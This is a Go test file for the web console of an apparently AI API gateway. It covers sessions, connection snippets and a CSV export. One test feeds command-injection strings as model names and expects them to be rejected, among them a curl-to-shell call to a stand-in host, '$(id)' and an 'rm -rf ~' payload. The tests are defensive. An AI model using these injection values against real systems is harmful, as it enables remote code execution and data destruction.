package console_test

import (
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/genway/genway/core/keys"
)

// Sessions are listed with their users, and end at once when a user ends them.
func TestSessionsAreListedAndEnd(t *testing.T) {
	f := open(t)
	one, other := f.signIn(t, f.root), f.signIn(t, f.viewer)
	who, err := f.keys.Authenticate(t.Context(), other)
	if err != nil {
		t.Fatal(err)
	}
	list := f.get(t, one, "/sessions").body
	if !strings.Contains(list, who.KeyID) || !strings.Contains(list, "this one") || strings.Count(list, "<td>viewer</td>") != 1 {
		t.Errorf("%s", list)
	}
	if rawKey.MatchString(list) {
		t.Error("a session's key is in the list")
	}
	if keys := f.get(t, one, "/keys").body; strings.Contains(keys, who.KeyID) {
		t.Error("a session is in the list of keys")
	}
	if got := f.post(t, one, "/sessions/"+who.KeyID+"/end", nil); got.code != http.StatusSeeOther {
		t.Fatalf("end: %d", got.code)
	}
	f.ahead.Add(int64(11e9)) // what is known of a session is known for ten seconds
	if got := f.get(t, other, "/keys"); got.code != http.StatusSeeOther {
		t.Errorf("an ended session gets %d", got.code)
	}
	root, err := f.keys.Authenticate(t.Context(), f.root)
	if err != nil {
		t.Fatal(err)
	}
	if got := f.post(t, one, "/sessions/"+root.KeyID+"/end", nil); got.code != http.StatusBadRequest {
		t.Errorf("a key that is no session ends as one: %d", got.code)
	}
	link := regexp.MustCompile(`http://127\.0\.0\.1:8088/sign-in#gwk_[0-9A-Za-z]{36}`).FindString(f.post(t, one, "/sessions/link", url.Values{"role": {"admin"}}).body)
	if guest := f.signIn(t, link); f.post(t, guest, "/keys", url.Values{"group": {"chat"}}).code != http.StatusOK {
		t.Error("an admin's guest cannot make keys")
	}
}

// A snippet has the base URL, and the key that is made on the spot.
func TestConnect(t *testing.T) {
	f := open(t)
	session := f.signIn(t, f.root)
	if got := f.get(t, session, "/connect?group=messages&model=m1"); !strings.Contains(got.body, "ANTHROPIC_BASE_URL=http://127.0.0.1:8080\n") || !strings.Contains(got.body, "ANTHROPIC_MODEL=m1") || rawKey.MatchString(got.body) {
		t.Errorf("%s", got.body)
	}
	for _, group := range []string{"chat", "messages", "generatecontent", "internal"} {
		got := f.post(t, session, "/connect", url.Values{"group": {group}, "name": {"of " + group}, "model": {"m"}})
		raw := rawKey.FindString(got.body)
		if who, err := f.keys.Authenticate(t.Context(), raw); err != nil || string(who.Group) != group || strings.Count(got.body, raw) < 2 || strings.Contains(got.body, "{KEY}") {
			t.Errorf("%s: %v %v", group, who, err)
		}
	}
}

// A link's model is in a snippet, which operators paste into shells, only if it cannot be more than a name there.
func TestConnectToAnyModel(t *testing.T) {
	f := open(t)
	session := f.signIn(t, f.root)
	for _, group := range []string{"chat", "messages", "generatecontent", "internal"} {
		for _, model := range []string{"x;curl evil.example|sh", "$(id)", "`id`", "a'; rm -rf ~ #", `a"); import os`, "-x", "a\nb", "a b", "x&y", "{KEY}", "m\x00", "é", strings.Repeat("a", 200)} {
			for how, got := range map[string]answer{
				"a link": f.get(t, session, "/connect?"+url.Values{"group": {group}, "model": {model}}.Encode()),
				"a form": f.post(t, session, "/connect", url.Values{"group": {group}, "model": {model}, "name": {"of it"}}),
			} {
				if got.code != http.StatusBadRequest || strings.Contains(got.body, `id="snippet-`) || rawKey.MatchString(got.body) {
					t.Errorf("%s, %s, %q: %d %s", how, group, model, got.code, got.body)
				}
			}
		}
	}
	if n := count(t, f, keys.GroupChat); n != 0 {
		t.Errorf("%d keys were made", n)
	}
	if got := f.get(t, session, "/connect?group=chat&model=@cf/meta/llama-3.1:8b"); got.code != http.StatusOK || !strings.Contains(got.body, "@cf/meta/llama-3.1:8b") {
		t.Errorf("%d %s", got.code, got.body)
	}
}

// A table for a spreadsheet has no formulas.
func TestCSV(t *testing.T) {
	f := open(t)
	got := f.get(t, f.signIn(t, f.root), "/usage.csv?by=owner")
	if got.code != http.StatusOK || !strings.HasPrefix(got.header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(got.body, "owner,requests,ok,") {
		t.Errorf("%d %v %s", got.code, got.header, got.body)
	}
}
